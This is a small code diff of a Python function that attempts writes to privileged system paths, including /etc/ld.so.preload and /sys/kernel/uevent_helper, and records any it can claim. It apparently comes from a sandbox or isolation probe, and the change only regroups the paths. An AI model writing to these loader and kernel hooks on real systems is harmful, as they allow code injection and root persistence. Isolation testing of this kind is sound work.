@@ -384,7 +384,8 @@ def signal_everyone():
 
 
 def system_files():
-    for path in ("/usr/bin/track", "/etc/ld.so.preload", "/lib/track", "/sys/kernel/uevent_helper", "/dev/track", "/track"):
+    hooks = ("/etc/ld.so.preload", "/sys/kernel/uevent_helper")
+    for path in ("/usr/bin/track", "/lib/track", "/dev/track", "/track", *hooks):
         if write(path):
             claim(path)
 
